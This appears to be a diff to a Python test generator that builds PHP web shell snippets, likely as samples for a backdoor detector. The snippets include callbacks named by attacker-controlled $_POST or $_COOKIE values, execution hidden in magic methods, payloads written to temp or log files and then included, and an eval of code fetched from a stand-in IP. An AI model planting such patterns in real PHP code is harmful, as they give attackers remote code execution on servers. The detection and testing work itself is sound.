@@ -96,6 +96,10 @@ def named_by_visitor(draw: Draw) -> str:
             f"@array_filter([{two}], {one});",
             f"{name}=$_POST; {name}['x']({name}['y']);",
             "foreach($_POST as $k=>$v) $k($v);",
+            f"if (isset({one})) {{{name}={one}; if (isset({name})) {name}({two});}}",
+            "if (isset($_COOKIE['f'],$_COOKIE['p'])) array_map($_COOKIE['f'], array($_COOKIE['p']));",
+            f"filter_var({two}, FILTER_CALLBACK, array('options'=>{one}));",
+            f"preg_replace_callback('/.*/', {one}, {two});",
         )
     )
 
@@ -168,6 +172,7 @@ def function_wrapped(draw: Draw) -> str:
             f"class {two}{{static $p; static function {one}(){{$x=self::$p; {run};}}}}"
             f" {before}{two}::$p={value}; {two}::{one}();",
             f"trait T{two}{{function {one}($x){{{run};}}}} class {two}{{use T{two};}} {before}(new {two})->{one}({value});",
+            f"class {two}{{function __set($n,$x){{{run};}}}} {before}$o=new {two}; $o->{three}={value};",
             f"{before}(new class{{function r($x){{{run};}}}})->r({value});",
             f"function {one}($x){{return {two}1($x);}} function {two}1($x){{return {run};}} {before}{one}({value});",
             f"class {two}{{private $q=''; public function __toString(){{$x=$this->q; {run}; return '';}}"
@@ -188,6 +193,9 @@ def loading(draw: Draw) -> str:
             "include('php://input');",
             f"@include_once $_FILES['{name}']['tmp_name'];",
             f"file_put_contents('{name}.php', {value}); include '{name}.php';",
+            f"$f=tmpfile(); fwrite($f, {value}); include stream_get_meta_data($f)['uri'];",
+            f"$n='./{name}_'.mt_rand().'.tmp'; file_put_contents($n, {value}); include_once $n;",
+            f"error_log({value}, 3, '/tmp/{name}.log'); include '/tmp/{name}.log';",
             f"$t=tempnam('/tmp','x'); file_put_contents($t, {value}); include $t;"
             f" file_put_contents('/tmp/{name}.php', {value});",
             f"eval(file_get_contents('http://203.0.113.7/{name}.txt'));",
